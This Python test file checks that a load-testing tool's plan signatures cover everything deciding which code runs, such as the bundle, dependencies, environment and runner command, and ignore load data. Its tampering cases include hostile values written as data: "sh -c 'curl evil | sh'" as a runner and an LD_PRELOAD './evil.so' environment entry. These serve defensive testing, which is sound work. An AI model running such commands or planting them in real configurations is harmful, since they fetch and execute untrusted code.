"""What a signature of a plan is of: all that decides which code runs, and nothing that is data."""

from dataclasses import replace

import pytest

from loadgrpc.bundle.signed import HEAD, signed, statement
from loadgrpc.certs.signing import SigningKey, is_signed
from loadgrpc.model import Plan, RunnerMode, Scenario, WeightedTest
from loadgrpc.protocol import plans

pytestmark = pytest.mark.usefixtures("issue")  # skips where the library is missing

SCENARIO = Scenario(name="buy", test="shop.py::TestShop.test_buy", users=(10,), iterations=(2,))
PLAN = Plan(
    scenarios=(SCENARIO,),
    bundle="ab" * 32,
    python_deps=("faker>=20", "./my.whl"),
    env=(("REGION", "eu"), ("A", "x=y")),
)


def test_the_statement_is_the_one_that_the_proto_describes():
    """Byte for byte: other languages make it, too."""
    assert statement(PLAN, SCENARIO) == (
        b"loadgrpc signature 1\0"
        b"bundle=" + b"ab" * 32 + b"\0"
        b"python_dep=faker>=20\0python_dep=./my.whl\0"
        b"env=A=x=y\0env=REGION=eu\0"
        b"test=shop.py::TestShop.test_buy\0"
    )
    several = Scenario(
        test="", tests=(WeightedTest("a.B.c", 8), WeightedTest("a.B.d")), test_runner="./go {test}"
    )
    plan = Plan(scenarios=(several,), test_dir="/tmp/ü")
    runner = "test_runner=./go {test}\0test=a.B.c\0test=a.B.d\0"
    assert statement(plan, several) == f"{HEAD}\0test_dir=/tmp/ü\0{runner}".encode()


@pytest.mark.parametrize(
    "change",
    [
        {"bundle": "cd" * 32},
        {"bundle": ""},
        {"python_deps": ("./my.whl", "faker>=20")},
        {"python_deps": (*PLAN.python_deps, "evil")},
        {"env": (*PLAN.env, ("LD_PRELOAD", "./evil.so"))},
        {"env": ()},
        {"test_dir": "/tmp/tests"},
        {"scenarios": (replace(SCENARIO, test="shop.py::TestShop.test_other"),)},
        {"scenarios": (replace(SCENARIO, test_runner="sh -c 'curl evil | sh'"),)},
        {"scenarios": (replace(SCENARIO, test="", tests=(WeightedTest("a.B.c"),)),)},
    ],
    ids=lambda change: f"{change}"[:40],
)
def test_what_changes_the_code_breaks_the_signature(change):
    """A plan that runs something else has to be signed again."""
    key = SigningKey.make()
    changed = replace(signed(PLAN, key), **change)
    (scenario,) = changed.scenarios
    (signature,) = changed.signatures
    assert not is_signed(statement(changed, scenario), changed.signatures, [signature.public_key])
    again = signed(changed, key)
    assert is_signed(statement(again, scenario), again.signatures, [signature.public_key])


def test_data_may_differ():
    """The same code is run with another load, server and title; an agent's part is part of it."""
    plan = signed(PLAN, SigningKey.make())
    part = replace(SCENARIO, users=(3,), spawn_rate=2.0, server_url="http://x/", iterations=(9,))
    changed = replace(plan, scenarios=(part,), title="t", agents=5, seed=7)
    (signature,) = plan.signatures
    assert is_signed(statement(changed, part), changed.signatures, [signature.public_key])


def test_each_scenario_is_signed_by_itself():
    """An agent gets each by itself; the same code twice, and what is run by hand, need no more."""
    other = replace(SCENARIO, name="look", test="shop.py::TestShop.test_look")
    same = replace(SCENARIO, name="same", users=(1,))
    by_hand = Scenario(name="hand", test="x", runner_mode=RunnerMode.BY_HAND)
    plan = signed(replace(PLAN, scenarios=(SCENARIO, other, same, by_hand)), SigningKey.make())
    keys = {each.public_key for each in plan.signatures}
    assert len(plan.signatures) == 2
    for scenario in (SCENARIO, other, same):
        part = replace(plan, scenarios=(scenario,))
        assert is_signed(statement(part, scenario), part.signatures, keys)
    assert not is_signed(statement(plan, by_hand), plan.signatures, keys)


def test_signatures_are_sent_and_not_shown():
    """Agents get them; whoever looks at a run sees whose they are, and no more."""
    plan = signed(PLAN, SigningKey.make())
    assert plans.plan_from_proto(plans.plan_to_proto(plan)).signatures == plan.signatures
    assert plans.checked_plan(plans.kept_plan(plan)).signatures == plan.signatures
    (shown,) = plans.shown_plan(plan).signatures
    assert (shown.public_key, shown.signature) == (plan.signatures[0].public_key, b"")
